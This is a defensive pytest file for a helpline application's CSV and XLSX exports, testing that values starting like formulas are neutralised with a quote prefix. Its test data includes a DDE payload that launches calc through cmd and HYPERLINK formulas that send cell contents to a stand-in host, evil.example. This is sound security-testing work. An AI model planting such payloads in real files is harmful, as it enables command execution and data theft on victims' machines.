"""Every CSV and XLSX export writes a text that a spreadsheet would run as a formula as plain text (issue 10, point 7).

A cell beginning with ``=``, ``+``, ``-`` or ``@`` (and, as OWASP lists, a tab or a carriage return) is a formula to
Excel and LibreOffice when a CSV file is opened: a topic an administrator named ``=HYPERLINK(…)``, a provider's
address or a log-in name typed at the log-in screen must not run on a shift lead's machine. In CSV such a cell gets a
leading quote; in XLSX every text is a text cell (never a formula) and such a text carries Excel's quote prefix.
Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook  # type: ignore[import-untyped]

from app.models import Person, Provider
from app.models.audit import AuditKind
from app.models.enums import Role
from app.services.aid import decisions, providers
from app.services.documents import provider_csv
from app.services.documents.spreadsheet_cells import CsvWriter, neutralise, restore
from app.services.documents.statistics_export import Labels, to_csv, to_xlsx
from app.services.guard import audit
from app.services.guard.audit import AuditFilter
from app.services.statistics.figures import PeriodStatistics, period_statistics
from app.store.db import Store
from tests.conftest import make_user
from tests.services.aid.test_decisions import add_provider, decision, identified_contact
from tests.services.aid.test_providers import TODAY, person_input

STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = tuple(f"{start}2+5+cmd|' /C calc'!A0" for start in STARTS)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def _cells(text: str) -> set[str]:
    return {cell for row in _rows(text) for cell in row}


def test_audit_export_quotes_names_and_texts_that_would_run(any_store: Store) -> None:
    """A failed log-in's name is whatever was typed at the log-in screen (and old trails keep it verbatim)."""
    lead = make_user(any_store, Role.SHIFT_LEAD, "tiina")
    with any_store.unit_of_work() as uow:
        for payload in PAYLOADS:
            audit.record(uow, AuditKind.LOGIN_FAILED, username=payload, screen=payload)
        uow.commit()
    with any_store.unit_of_work() as uow:
        data = audit.export_csv(uow, lead, AuditFilter(kind=AuditKind.LOGIN_FAILED))

    rows = _rows(data.decode("utf-8"))
    header, body = rows[0], rows[1:]
    assert [row[header.index("username")] for row in body] == ["'" + payload for payload in PAYLOADS]
    assert [row[header.index("screen")] for row in body] == ["'" + payload for payload in PAYLOADS]
    assert all(row[header.index("seq")].isdigit() for row in body)  # numbers stay numbers


def test_provider_register_export_quotes_texts_that_would_run(any_store: Store) -> None:
    admin = make_user(any_store, Role.ADMINISTRATOR, "admin")
    made = []
    with any_store.unit_of_work() as uow:
        for index in range(len(PAYLOADS)):
            view = providers.create_provider(uow, admin, person_input(f"Provider {index} FIE"), today=TODAY)
            made.append(view.id)
        uow.commit()
    with any_store.unit_of_work() as uow:
        for provider_id, payload in zip(made, PAYLOADS, strict=True):
            stored = uow.session.get(Provider, provider_id)
            assert stored is not None
            stored.name, stored.address = payload, payload  # as an older version or another tool may have stored
        uow.commit()
    with any_store.unit_of_work() as uow:
        text = provider_csv.export_csv(uow, admin)

    rows = _rows(text)
    header, body = rows[0], rows[1:]
    assert sorted(row[header.index("name")] for row in body) == sorted("'" + payload for payload in PAYLOADS)
    assert sorted(row[header.index("address")] for row in body) == sorted("'" + payload for payload in PAYLOADS)
    assert {row[header.index("phone")] for row in body} == {"'+37251234567"}  # would lose its + as a number


def test_provider_register_with_formula_like_names_comes_back_as_it_was(any_store: Store) -> None:
    """The quote is the export's, not the provider's: importing the exported file gives back the names as typed."""
    admin = make_user(any_store, Role.ADMINISTRATOR, "admin")
    names = ["=Pere MTÜ", "+Abi OÜ", "-Lein MTÜ", "@Kodu OÜ", "'=Ülakoma MTÜ", "'Tavaline OÜ"]
    with any_store.unit_of_work() as uow:
        for index, name in enumerate(names):
            providers.create_provider(
                uow,
                admin,
                person_input(name, address=f"-{index}. korrus", fields_of_work=["=lein", "@x"]),
                today=TODAY,
            )
        uow.commit()
    with any_store.unit_of_work() as uow:
        before = providers.list_providers(uow, admin)
        exported = provider_csv.export_csv(uow, admin)
    assert "'=Pere MTÜ" in _cells(exported)
    assert "''=Ülakoma MTÜ" in _cells(exported)  # a quote the user typed survives the round trip
    assert "'Tavaline OÜ" in _cells(exported)

    with any_store.unit_of_work() as uow:
        result = provider_csv.import_csv(uow, admin, exported.encode(provider_csv.ENCODING), today=TODAY)
        uow.commit()
    assert (result.created, result.updated, result.errors) == (0, len(names), [])
    with any_store.unit_of_work() as uow:
        after = providers.list_providers(uow, admin)
    assert [(p.name, p.address, p.fields_of_work, p.phone) for p in after] == [
        (p.name, p.address, p.fields_of_work, p.phone) for p in before
    ]


def test_provider_clients_export_quotes_names_that_would_run(store: Store) -> None:
    mari = make_user(store, Role.COUNSELLOR, "mari")
    lead = make_user(store, Role.SHIFT_LEAD, "tiina")
    provider = add_provider(store)
    assert provider.id is not None
    for index, payload in enumerate(PAYLOADS):
        contact = identified_contact(store, mari, f"Klient {index}", "")
        with store.unit_of_work() as uow:
            decisions.decide(uow, mari, decision(contact.id, provider.id, date(2026, 4, 2)))
        with store.unit_of_work() as uow:
            person_id = uow.session.scalars(sa.select(Person.id).where(Person.full_name == f"Klient {index}")).one()
            stored = uow.session.get(Person, person_id)
            assert stored is not None
            stored.full_name = payload
            uow.commit()
    with store.unit_of_work() as uow:
        files = decisions.export_for_provider(uow, lead, provider.id, date(2026, 4, 1), date(2026, 4, 30))

    rows = _rows(files.with_limit)
    header, body = rows[0], rows[1:]
    assert sorted(row[header.index("client_name")] for row in body) == sorted("'" + p for p in PAYLOADS)
    assert {row[header.index("limit")] for row in body} == {"946.00"}  # numbers stay numbers


def _labels_with(payloads: dict[str, str]) -> Labels:
    def labels(kind: str, code: str) -> str:
        return payloads.get(code, f"{kind}.{code}") if kind == "topic" else f"{kind}.{code}"

    return labels


@pytest.fixture
def topic_stats(store: Store) -> PeriodStatistics:
    from datetime import UTC, datetime, timedelta

    from app.services.contacts.editing import ContactInput, save_contact

    mari = make_user(store, Role.COUNSELLOR, "mari")
    lead = make_user(store, Role.SHIFT_LEAD, "tiina")
    start = datetime(2026, 5, 4, 8, 0, tzinfo=UTC)
    for index, topic in enumerate(("domestic_violence", "sexual_violence")):
        with store.unit_of_work() as uow:
            data = ContactInput(
                started_at=start + timedelta(hours=index),
                ended_at=start + timedelta(hours=index, minutes=5),
                topics=[topic],
            )
            save_contact(uow, mari, data, now=start + timedelta(hours=index, minutes=10))
    with store.unit_of_work() as uow:
        return period_statistics(uow, lead, date(2026, 5, 1), date(2026, 5, 31))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_statistics_csv_quotes_a_topic_named_like_a_formula(topic_stats: PeriodStatistics, payload: str) -> None:
    labels = _labels_with({"domestic_violence": payload})

    topic = _rows(to_csv(topic_stats, labels)["topic"])

    by_label = {row[0]: row[1:] for row in topic[1:]}
    assert "'" + payload in by_label
    assert by_label["'" + payload][0] == "1"  # the count stays a number
    assert by_label["'" + payload][1] == "0.5"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_statistics_xlsx_holds_a_topic_named_like_a_formula_as_text(
    topic_stats: PeriodStatistics, payload: str
) -> None:
    content = to_xlsx(topic_stats, _labels_with({"domestic_violence": payload}), generated=date(2026, 6, 1))

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
    book = load_workbook(io.BytesIO(content))
    sheet = book["table.topic"]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=3)}
    # XML reads a carriage return back as a line feed; the cell is found by the rest of its text
    label, count, share = next(row for value, row in cells.items() if value[1:] == payload[1:])
    assert label.data_type == "s"
    assert label.quotePrefix  # Excel shows it as typed, and keeps it text when the cell is edited
    assert (count.value, count.data_type) == (1, "n")
    assert (share.value, share.data_type) == (0.5, "n")
    ordinary = next(row[0] for value, row in cells.items() if value == "topic.sexual_violence")
    assert not ordinary.quotePrefix


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_would_run_gets_a_quote_and_nothing_else_does(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    assert neutralise("'" + payload) == "''" + payload
    for harmless in ("Mari Tamm", "", "'", "'Tavaline OÜ", "1,5", "Õie 5", " =x"):
        assert neutralise(harmless) == harmless
    for number in (-5, -1.5, Decimal("-946.00"), 0):
        assert neutralise(number) == number


@pytest.mark.parametrize("text", [*PAYLOADS, "'=x", "''-1", "Mari", "", "'", "'Tavaline", "+372 5123 4567"])
def test_restore_gives_back_what_was_neutralised(text: str) -> None:
    assert restore(neutralise(text)) == text


# --- a `;` or `,` inside a cell (issue 10 probe, point 5) ---------------------------------------------------------
# Estonian Excel splits a CSV file on `;` (its list separator), and a spreadsheet told to ignore quotes splits on
# every `,`: a cell's text after either then begins a cell of its own. The parts after them are neutralised too.
INNER = (
    'kordushelistaja;=HYPERLINK("http://evil.example";"ava");',
    'Abi OÜ;=HYPERLINK("http://evil.example/?"&A1;"klikk")',
    "Kask FIE;@SUM(1+1)",
    "Tamm,+1+1",
    'x;"=1+1"',
    "Lepp;\t=1",
    "a;-1;;+2",
)


def _formula_cells(text: str) -> list[str]:
    """Every cell that begins like a formula when the file is read with `,` or with `;` between cells."""
    found = []
    for delimiter in (",", ";"):
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter):
            found += [cell for cell in row if cell[:1] in tuple("=+-@\t\r")]
        for line in text.removeprefix("\ufeff").splitlines():  # and as a reader that ignores quotes splits it
            found += [cell for cell in line.split(delimiter) if cell.lstrip('"')[:1] in tuple("=+-@\t\r")]
    return found


@pytest.mark.parametrize("text", INNER)
def test_a_part_after_a_semicolon_or_comma_that_would_run_gets_a_quote(text: str) -> None:
    out = io.StringIO()
    CsvWriter(out).writerow(["1", text, 2])
    assert _formula_cells(out.getvalue()) == []
    assert restore(neutralise(text)) == text  # the provider import reads the program's own files back as typed


def test_inner_quotes_are_exactly_where_needed() -> None:
    assert neutralise("Kask FIE;@SUM(1+1)") == "Kask FIE;'@SUM(1+1)"
    assert neutralise("=a;=b,=c") == "'=a;'=b,'=c"
    assert neutralise("Tamm, Mari; Kask") == "Tamm, Mari; Kask"  # a space after the separator: nothing runs
    assert neutralise("1,5;2") == "1,5;2"
    assert neutralise("x;'=1") == "x;''=1"


def test_audit_export_neutralises_a_formula_after_a_semicolon_in_a_reason(any_store: Store) -> None:
    """A break-the-glass reason is typed by any counsellor and read by a shift lead in the audit CSV."""
    from app.services.contacts.editing import ContactInput, save_contact
    from app.services.guard import access

    mari = make_user(any_store, Role.COUNSELLOR, "mari")
    jaan = make_user(any_store, Role.COUNSELLOR, "jaan")
    lead = make_user(any_store, Role.SHIFT_LEAD, "tiina")
    with any_store.unit_of_work() as uow:
        saved = save_contact(
            uow,
            mari,
            ContactInput(started_at=datetime(2026, 3, 30, 20, tzinfo=UTC), identified=True, full_name="Mari Kask"),
        )
    assert saved.person_id is not None
    with any_store.unit_of_work() as uow:
        access.grant_access(uow, jaan, saved.person_id, INNER[0])
    with any_store.unit_of_work() as uow:
        data = audit.export_csv(uow, lead, AuditFilter(kind=AuditKind.ACCESS_OVERRIDE)).decode("utf-8")

    assert "HYPERLINK" in data
    assert _formula_cells(data) == []


def test_provider_exports_neutralise_a_formula_after_a_semicolon_in_a_name(store: Store) -> None:
    admin = make_user(store, Role.ADMINISTRATOR, "admin")
    mari = make_user(store, Role.COUNSELLOR, "mari")
    lead = make_user(store, Role.SHIFT_LEAD, "tiina")
    with store.unit_of_work() as uow:
        for name in INNER[1:3]:
            providers.create_provider(uow, admin, person_input(name, address="Pikk 1;-2. korrus"), today=TODAY)
        uow.commit()
    with store.unit_of_work() as uow:
        before = providers.list_providers(uow, admin)
        register = provider_csv.export_csv(uow, admin)
    assert "HYPERLINK" in register
    assert "SUM" in register
    assert _formula_cells(register) == []
    with store.unit_of_work() as uow:  # and the import gives back the names as typed
        result = provider_csv.import_csv(uow, admin, register.encode(provider_csv.ENCODING), today=TODAY)
        uow.commit()
    assert (result.updated, result.errors) == (len(before), [])
    with store.unit_of_work() as uow:
        assert [(p.name, p.address) for p in providers.list_providers(uow, admin)] == [
            (p.name, p.address) for p in before
        ]

    provider = add_provider(store)
    assert provider.id is not None
    contact = identified_contact(store, mari, "Klient;=1+1", "")
    with store.unit_of_work() as uow:
        decisions.decide(uow, mari, decision(contact.id, provider.id, date(2026, 4, 2)))
    with store.unit_of_work() as uow:
        files = decisions.export_for_provider(uow, lead, provider.id, date(2026, 4, 1), date(2026, 4, 30))
    assert "Klient;" in files.with_limit
    assert _formula_cells(files.with_limit) == []


def test_statistics_csv_neutralises_a_formula_after_a_semicolon_in_a_topic(topic_stats: PeriodStatistics) -> None:
    tables = to_csv(topic_stats, _labels_with({"domestic_violence": "Lein;=1+1", "sexual_violence": "Abi,@x"}))

    assert "Lein;" in tables["topic"]
    assert all(_formula_cells(text) == [] for text in tables.values())
